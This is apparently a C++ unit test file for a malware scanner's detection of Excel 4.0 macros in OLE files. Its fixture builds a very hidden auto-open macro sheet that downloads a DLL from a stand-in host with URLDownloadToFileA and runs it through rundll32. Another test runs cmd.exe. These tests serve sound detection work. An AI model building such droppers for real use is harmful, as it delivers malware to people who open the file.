// Excel 4.0 macros in compound files: generated BIFF8 workbooks in a generated CFB, through
// the analyzer and through the engine (score and verdict).
#include <gtest/gtest.h>

#include "analyzers/ole/ole_analyzer.h"
#include "core/testing/recording_context.h"
#include "engine/engine.h"
#include "engine/registry.h"
#include "engine/scan.h"
#include "formats/cfb/cfb_builder.h"
#include "formats/xls/biff_test_builder.h"

namespace lg {
namespace {

using testing::BiffWorkbookBuilder;
using testing::cat;
using testing::CfbBuilder;
using testing::Ptg;
using testing::RecordingContext;

// A workbook whose very hidden macro sheet downloads and runs a program on open.
Bytes dropper_xls() {
  Ptg p;
  BiffWorkbookBuilder b;
  b.sheet("Sheet1", 0, false);
  const std::size_t m = b.sheet("Kx", 2, true);
  b.name("\x01", p.ref3d(1, 0, 0), true);
  b.formula(m, 0, 0,
            cat({p.str("URLMON"), p.str("URLDownloadToFileA"), p.str("JJCCJJ"), p.integer(0),
                 p.str("http://update.example.net/st.dll"), p.str("C:\\Users\\Public\\st.dll"),
                 p.integer(0), p.integer(0), p.funcvar(8, 150)}));
  b.formula(
      m, 1, 0,
      cat({p.str("rundll32 C:\\Users\\Public\\st.dll,DllRegisterServer"), p.funcvar(1, 110)}));
  b.formula(m, 2, 0, p.funcvar(0, 54));
  CfbBuilder cfb;
  cfb.stream("Workbook", b.build());
  return cfb.build();
}

TEST(OleXlm, VeryHiddenAutoOpenDropper) {
  const Bytes file = dropper_xls();
  RecordingContext ctx;
  OleAnalyzer a;
  ASSERT_TRUE(a.analyze(file, ctx).is_ok());
  EXPECT_TRUE(ctx.has(Symbol::XLM_MACRO_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_VERY_HIDDEN_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  EXPECT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
  const std::string text = ctx.all_text(TextKind::kMacro);
  EXPECT_NE(text.find("Kx!A1: =CALL(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
                      "\"http://update.example.net/st.dll\""),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("Kx!A2: =EXEC(\"rundll32 C:\\Users\\Public\\st.dll,DllRegisterServer\")"),
            std::string::npos);
  EXPECT_EQ(ctx.num("xlm_formula_count"), 3);
}

TEST(OleXlm, DropperIsMaliciousThroughTheEngine) {
  const Bytes file = dropper_xls();
  const Engine engine(default_config());
  const Report r = engine.scan("invoice.xls", file);
  EXPECT_EQ(r.verdict, Verdict::kMalicious) << r.score;
  EXPECT_GE(r.score, 15);
  bool url = false;
  for (const auto& f : r.findings) url = url || f.symbol == "XLM_EXECUTE";
  EXPECT_TRUE(url);
}

TEST(OleXlm, EncryptedWorkbookIsAFactNotACrash) {
  BiffWorkbookBuilder b;
  b.encrypt();
  b.sheet("Macro1", 0, true);
  CfbBuilder cfb;
  cfb.stream("Workbook", b.build());
  RecordingContext ctx;
  OleAnalyzer a;
  ASSERT_TRUE(a.analyze(cfb.build(), ctx).is_ok());
  EXPECT_TRUE(ctx.has(Symbol::OFFICE_ENCRYPTED));
  EXPECT_NE(ctx.str("xlm_unread"), "<missing>");
  EXPECT_FALSE(ctx.has(Symbol::XLM_MACRO_SHEET));
}

TEST(OleXlm, Biff5BookStream) {
  Ptg p{true};
  BiffWorkbookBuilder b(true);
  const std::size_t m = b.sheet("Macro1", 1, true);
  b.name("Auto_open_x", p.ref3d(0, 0, 0));
  b.formula(m, 0, 0, cat({p.str("cmd.exe"), p.funcvar(1, 110)}));
  CfbBuilder cfb;
  cfb.stream("Book", b.build());
  RecordingContext ctx;
  OleAnalyzer a;
  ASSERT_TRUE(a.analyze(cfb.build(), ctx).is_ok());
  EXPECT_TRUE(ctx.has(Symbol::XLM_HIDDEN_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  EXPECT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
}

}  // namespace
}  // namespace lg
